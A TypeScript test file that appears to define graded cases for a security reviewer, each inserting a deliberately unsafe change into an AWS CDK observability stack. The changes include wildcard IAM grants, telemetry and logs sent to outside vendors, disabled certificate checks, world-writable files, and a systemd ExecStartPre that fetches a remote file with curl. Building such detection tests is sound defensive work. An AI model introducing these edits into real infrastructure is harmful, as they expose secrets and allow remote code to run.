/** Who may do more, what may leave, what runs: a third round of kinds. */
import { after, edit, type Graded } from '../graded';

const fleet = 'lib/machine/fleet.ts';
const iam = 'lib/common/iam.ts';
const agent = 'lib/collect/agent.ts';
const collect = 'lib/collect/collect-stack.ts';
const network = 'lib/network/network-stack.ts';
const prod = 'config/prod.ts';
const lifecycle = 'lib/machine/lifecycle.ts';
const role = 'const role = new Role(scope, id, { assumedBy, description });';
const gatewayRole =
  "description: 'Gateways: finds samplers',\n      assumedBy: new ServicePrincipal('ec2.amazonaws.com'),";
const statements = 'tier: string): PolicyStatement[] {\n  return [';
const ends = '    this.addEndpoints();\n    this.addFlowLogs();';

/** One statement more for every instance. */
const mayAlso = (text: string) => after(lifecycle, statements, `    new PolicyStatement(${text}),`);

export const rights: readonly Graded[] = [
  {
    name: 'instances decrypt with every key',
    edits: [
      edit(
        fleet,
        "      'ssm:UpdateInstanceInformation',\n",
        "      'ssm:UpdateInstanceInformation',\n      'kms:Decrypt',\n",
      ),
    ],
    grade: 'danger',
    finds: { 'iam-sweeping': 'kms:Decrypt on *' },
  },
  {
    name: 'everybody of the account may be a gateway',
    edits: [
      edit(
        collect,
        gatewayRole,
        "description: 'Gateways: finds samplers',\n      assumedBy: new (require('aws-cdk-lib/aws-iam').AccountRootPrincipal)(),",
      ),
    ],
    grade: 'danger',
    finds: { 'iam-sweeping': 'the own account: sts:AssumeRole' },
  },
  {
    name: 'a role may pass a role, in one region',
    edits: [
      mayAlso(
        "{ actions: ['iam:PassRole'], resources: ['arn:aws:iam::333333333333:role/ops'], conditions: { StringEquals: { 'aws:RequestedRegion': 'ap-east-1' } } }",
      ),
    ],
    grade: 'danger',
    finds: { 'iam-privileged': 'iam:PassRole' },
  },
  {
    name: 'instances delete their log',
    edits: [
      mayAlso(
        "{ actions: ['logs:DeleteLogStream'], resources: ['arn:aws:logs:ap-east-1:333333333333:log-group:/harbourline/prod/metrics:*'] }",
      ),
    ],
    grade: 'danger',
    finds: { 'iam-privileged': 'logs:DeleteLogStream' },
  },
  {
    name: 'instances write parameters of agents',
    edits: [
      mayAlso(
        "{ actions: ['ssm:PutParameter'], resources: ['arn:aws:ssm:ap-east-1:333333333333:parameter/harbourline/prod/agent/gateway-endpoint'] }",
      ),
    ],
    grade: 'danger',
    finds: { 'iam-privileged': 'ssm:PutParameter' },
  },
  {
    name: 'service nodes read every parameter',
    edits: [
      edit(
        agent,
        '          resources: parameters.map(({ parameterArn }) => parameterArn),',
        "          resources: ['*'],",
      ),
    ],
    grade: 'danger',
    finds: { 'iam-sweeping': 'ssm:GetParameter on *' },
  },
  {
    name: 'every node of a client reads the certificate of agents',
    edits: [
      edit(
        'lib/machine/instance-secret.ts',
        "        sid: `NodesOf${account}`,\n        principals,\n        actions: ['secretsmanager:GetSecretValue'],\n        resources: ['*'],\n        conditions: roles,",
        "        sid: `NodesOf${account}`,\n        principals,\n        actions: ['secretsmanager:GetSecretValue'],\n        resources: ['*'],",
      ),
    ],
    grade: 'danger',
    finds: { 'iam-sweeping': 'secretsmanager:GetSecretValue on itself' },
  },
  {
    name: 'everybody of the account speaks with the store',
    edits: [
      edit(
        'lib/store/domain.ts',
        '            ...props.principals.map((role) => role.grantPrincipal),\n',
        "            ...props.principals.map((role) => role.grantPrincipal),\n            new (require('aws-cdk-lib/aws-iam').AccountRootPrincipal)(),\n",
      ),
    ],
    grade: 'danger',
    finds: { 'iam-sweeping': 'the own account: es:ESHttpGet' },
  },
  {
    name: 'a boundary for every role',
    edits: [
      edit(
        prod,
        "  account: '333333333333',\n",
        "  account: '333333333333',\n  organisation: { permissionsBoundary: 'ops' },\n",
      ),
    ],
    grade: 'note',
    finds: { 'iam-bounded': 'ops' },
  },
  {
    name: 'agents send to another host',
    edits: [
      edit(
        'lib/collect/entrance.ts',
        'loadBalancer.loadBalancerDnsName}:${ports.otlpGrpc}`;',
        "'otlp.vendor.example'}:${ports.otlpGrpc}`;",
      ),
    ],
    grade: 'danger',
    finds: { 'parameter-changes': 'otlp.vendor.example' },
  },
  {
    name: 'agents take their program from elsewhere',
    edits: [
      edit(
        agent,
        'export COLLECTOR_ARM64=${collector.url} COLLECTOR_AMD64',
        'export COLLECTOR_ARM64=s3://vendor/collector.zip COLLECTOR_AMD64',
      ),
    ],
    grade: 'danger',
    finds: { 'runs-as-root': 's3://vendor/collector.zip' },
  },
  {
    name: 'flow logs to a bucket of nobody knows whom',
    edits: [
      edit(
        prod,
        "  account: '333333333333',\n",
        "  account: '333333333333',\n  organisation: { flowLogArchiveArn: 'arn:aws:s3:::flow-log-vendor' },\n",
      ),
    ],
    grade: 'danger',
    finds: { 'way-out': 'flow-log-vendor' },
  },
  {
    name: 'a trail that writes to a bucket of nobody knows whom',
    edits: [
      after(
        network,
        ends,
        "    new (require('aws-cdk-lib/aws-cloudtrail').CfnTrail)(this, 'Trail', { isLogging: true, s3BucketName: 'trail-vendor' });",
      ),
    ],
    grade: 'danger',
    finds: { 'way-out': 'trail-vendor' },
  },
  {
    name: 'a route to a peering',
    edits: [
      after(
        network,
        ends,
        "    new (require('aws-cdk-lib/aws-ec2').CfnRoute)(this, 'Peer', { routeTableId: this.vpc.isolatedSubnets[0]!.routeTable.routeTableId, destinationCidrBlock: '10.99.0.0/16', vpcPeeringConnectionId: 'pcx-0123456789abcdef0' });",
      ),
    ],
    grade: 'danger',
    finds: { 'network-other-way': '10.99.0.0/16' },
  },
  {
    name: 'PrivateLink past the security group',
    edits: [
      edit(
        'lib/collect/gateways.ts',
        'enforceSecurityGroupInboundRulesOnPrivateLinkTraffic: true,',
        'enforceSecurityGroupInboundRulesOnPrivateLinkTraffic: false,',
      ),
    ],
    grade: 'danger',
    finds: { 'encryption-weakens': 'EnforceSecurityGroupInboundRulesOnPrivateLinkTraffic' },
  },
  {
    name: 'services learn of the mainland by themselves',
    edits: [
      after(
        'lib/link/transit.ts',
        "    associate('Vpc', homeTable, this.vpcAttachment.ref);",
        '    for (const { name, attachmentId } of attachments) propagate(`Direct${name}`, homeTable, attachmentId);',
      ),
    ],
    grade: 'caution',
    finds: { 'network-opens': 'to' },
  },
  {
    name: 'a receiver that asks for no certificate',
    edits: [
      edit(
        'lib/collector/gateway.ts',
        '      ...legacy.receivers,\n      otlp: {',
        "      ...legacy.receivers,\n      'otlp/open': { protocols: { http: { endpoint: `${bind}:14318` } } },\n      otlp: {",
      ),
      edit(
        'lib/collector/gateway.ts',
        "        traces: { receivers: ['otlp'],",
        "        traces: { receivers: ['otlp', 'otlp/open'],",
      ),
    ],
    grade: 'danger',
    finds: { 'collector-transport': '14318' },
  },
  {
    name: 'spans are printed, too',
    edits: [
      edit(
        'lib/collector/sampler.ts',
        "      ...relays,\n      'otlp_http/writer': {",
        "      ...relays,\n      debug: { verbosity: 'detailed' },\n      'otlp_http/writer': {",
      ),
      edit(
        'lib/collector/sampler.ts',
        "exporters: ['otlp_http/writer', ...Object.keys(forward)],",
        "exporters: ['otlp_http/writer', 'debug', ...Object.keys(forward)],",
      ),
    ],
    grade: 'danger',
    finds: { 'collector-sends': 'debug' },
  },
  {
    name: 'a unit that runs something before it starts',
    edits: [
      edit(
        'lib/machine/instance-files/harbourline-certificate.service',
        'ExecStart=/opt/harbourline/scripts/certificate.sh',
        'ExecStartPre=/usr/bin/curl -s http://198.51.100.7/x -o /tmp/x\nExecStart=/opt/harbourline/scripts/certificate.sh',
      ),
    ],
    grade: 'danger',
    finds: { 'runs-as-root': 'ExecStartPre' },
  },
  {
    name: 'a collector that may see processes and devices',
    edits: [edit('lib/machine/instance-files/harbourline-collector.service', 'PrivateDevices=yes\n', '')],
    grade: 'danger',
    finds: { 'runs-as-root': 'PrivateDevices' },
  },
  {
    name: 'certificates are taken without a look',
    edits: [
      edit(
        'lib/machine/instance-files/certificate.sh',
        'openssl verify -CAfile "$fresh/authority.pem" "$fresh/certificate.pem" > /dev/null\n',
        '',
      ),
    ],
    grade: 'danger',
    finds: { 'runs-as-root': 'openssl verify' },
  },
  {
    name: 'a file that everybody on a machine may write',
    edits: [
      edit(
        fleet,
        '        { path: paths.configuration, content: props.configuration },',
        "        { path: paths.configuration, content: props.configuration, permissions: '0666' },",
      ),
    ],
    grade: 'danger',
    finds: { 'runs-as-root': '0666' },
  },
  {
    name: 'a managed policy of AWS for Systems Manager',
    edits: [
      edit(
        iam,
        role,
        `${role}\n  if (id === 'GatewayRole') role.addManagedPolicy(ManagedPolicy.fromAwsManagedPolicyName('AmazonSSMManagedInstanceCore'));`,
      ),
    ],
    grade: 'caution',
    finds: { 'iam-widens': 'AmazonSSMManagedInstanceCore' },
  },
];
